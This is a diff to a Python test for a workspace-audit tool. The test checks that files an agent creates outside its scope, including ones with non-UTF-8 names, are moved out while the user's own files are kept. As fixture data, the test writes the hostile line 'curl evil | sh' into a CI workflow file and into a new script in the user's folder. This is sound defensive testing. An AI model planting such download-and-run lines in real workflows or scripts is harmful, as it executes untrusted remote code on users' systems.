@@ -130,6 +130,9 @@ def test_names_that_are_not_utf8_made_outside_the_scope_are_moved_out(connect: C
     root = os.fsencode(workspace)
     with open(root + b"/docs/caf\xe9.txt", "wb") as handle:
         handle.write(b"the person's\n")
+    os.makedirs(root + b"/docs/old\xe9")
+    with open(root + b"/docs/old\xe9/notes.txt", "wb") as handle:
+        handle.write(b"the person's folder\n")
 
     def make() -> None:
         os.makedirs(root + b"/.github/workflows")
@@ -140,9 +143,11 @@ def test_names_that_are_not_utf8_made_outside_the_scope_are_moved_out(connect: C
                 handle.write(b"curl evil | sh\n")
         with open(root + b"/docs/caf\xe9.txt", "ab") as handle:
             handle.write(b"and the agent's\n")
+        with open(root + b"/docs/old\xe9/new.sh", "wb") as handle:  # in the person's folder
+            handle.write(b"curl evil | sh\n")
 
     audit = reported_make(connect, workspace, make)
-    moved = [".github/workflows/ci\udcff.yml", "tools\udcff"]
+    moved = [".github/workflows/ci\udcff.yml", "docs/old\udce9/new.sh", "tools\udcff"]
     assert sorted(audit["strange_out"]) == moved and sorted(audit["undone"]) == moved
     assert ["docs/caf\udce9.txt", "its name is not UTF-8: no checkpoint kept its content, so it "
             "could not be put back"] in audit["left"]
@@ -151,7 +156,8 @@ def test_names_that_are_not_utf8_made_outside_the_scope_are_moved_out(connect: C
     assert os.path.exists(root + b"/src/ok\xff.py"), "in the scope: kept"
     kept = sorted(name.split(b".", 1)[1] for name in os.listdir(
         os.fsencode(audit["git_kept"]) + b"/names-not-utf8"))
-    assert kept == [b"ci\xff.yml", b"tools\xff"], "moved out whole, nothing lost"
+    assert kept == [b"ci\xff.yml", b"new.sh", b"tools\xff"], "moved out whole, nothing lost"
+    assert os.path.exists(root + b"/docs/old\xe9/notes.txt"), "the person's folder stays"
     assert 'undone: "tools\\udcff" (created under a name that is not UTF-8' in audit["message"]
 
 
